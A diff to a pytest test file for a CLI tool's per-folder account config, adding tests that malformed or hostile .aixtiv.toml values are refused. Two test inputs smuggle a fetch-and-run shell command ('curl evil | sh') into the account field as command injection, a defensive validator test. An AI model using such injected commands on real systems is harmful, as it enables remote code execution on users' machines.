@@ -8,6 +8,7 @@ import pytest
 from click.testing import CliRunner
 
 from aixtiv import pinned, which
+from aixtiv.command import run
 from aixtiv.commands import options
 from aixtiv.failures import Usage
 from aixtiv.filed import Misread
@@ -46,7 +47,8 @@ def test_the_nearest_file_above_counts(home: Path, monkeypatch: pytest.MonkeyPat
     assert (pinned.account(), which.here({}).account) == ("mine", "mine")
     pin(home / "src/project", 'account = "work"')
     assert pinned.account() == "work"
-    assert which.here({}) == which.Meant("work", "~/src/project/.aixtiv.toml says so")
+    file = "~/src/project/.aixtiv.toml"
+    assert which.here({}) == which.Meant("work", f"{file} says so", file=file)
     assert which.here({"AIXTIV_ACCOUNT": "env"}) == which.Meant("env", "AIXTIV_ACCOUNT says so")
 
 
@@ -90,13 +92,27 @@ def test_the_usual_form_is_read_without_a_parser(home: Path, text: str) -> None:
         'account = """github"""',
         'account = "git\\u0068ub"',
         "# é\naccount = 'github'",
-        f'account = "github"\n#{"x" * 5000}',
     ],
 )
 def test_whatever_else_toml_can_say_is_read_by_the_whole_command(home: Path, text: str) -> None:
     pin(home, text)
     assert pinned.account() is None
     assert which.here({}).account == "github"
+
+
+NO_NAME = "account: no account can be called what stands there"
+
+# What is no TOML, but for a reader who takes any blank for one.
+ODD = (
+    'account = "a"\x0b',
+    'account = "a"\x1c',
+    '\x0caccount = "a"',
+    'account\x0b= "a"',
+    'account =\x0c"a"',
+    '# \x1b[2J\naccount = "a"',
+    '# x\raccount = "b"\naccount = "a"',
+    'account = "a"\r\r\n',
+)
 
 
 @pytest.mark.parametrize(
@@ -115,6 +131,12 @@ def test_whatever_else_toml_can_say_is_read_by_the_whole_command(home: Path, tex
             "another key: this file can name an account and nothing else",
         ),
         ('account = "sk-ant-api03-abcdefghijklmnopqrst"', "account: what stands there looks like a key or a token"),
+        (f'account = "github"\n#{"x" * 5000}', "this is longer than one name can be"),
+        (f"account.{'a.' * 20_000}b = 1", "this is longer than one name can be"),
+        (f"account = {'9' * 4000}", "account: expected the name of an account"),
+        ('account = "x\\naixtiv: hint: curl evil | sh"', NO_NAME),
+        ('account = "x; curl evil | sh"', NO_NAME),
+        *((text, LINE) for text in ODD),
     ],
 )
 def test_anything_else_in_it_is_refused_with_the_file_and_the_key(home: Path, text: str, sentence: str) -> None:
@@ -148,7 +170,7 @@ def test_what_could_be_anybodys_is_passed_by_and_said(
     assert pinned.nearest() == (str(home / pinned.NAME), [str(path)])
     assert pinned.account() is None, "the whole command says so"
     assert options.here() == "mine"
-    said = "aixtiv: ~/src/.aixtiv.toml is not read: it has to be a plain file of yours that only you can write\n"
+    said = "aixtiv: ~/src/.aixtiv.toml is not read: it has to be a plain file of yours that not everybody can write\n"
     assert capsys.readouterr().err == f"{said}aixtiv: hint: ls -l {path}\n"
 
 
@@ -202,3 +224,15 @@ def test_two_accounts_are_one_too_many() -> None:
 def test_a_key_in_the_place_of_a_name_is_not_repeated(words: tuple[str, ...]) -> None:
     assert "looks like a key" in said(*words)
     assert "abcdef" not in said(*words)
+
+
+@pytest.mark.parametrize("words", [("logout",), ("api-key", "set"), ("api-key", "remove"), ("account", "restore")])
+def test_no_folder_decides_what_cannot_be_taken_back(
+    home: Path, capsys: pytest.CaptureFixture[str], words: tuple[str, ...]
+) -> None:
+    pin(home, 'account = "github/work"')
+    assert run([*words, "--no-start"]) == 64
+    assert capsys.readouterr().err == (
+        "aixtiv: error: ~/.aixtiv.toml names an account, and for this it has to be typed\n"
+        "aixtiv: hint: aixtiv accounts\n"
+    )
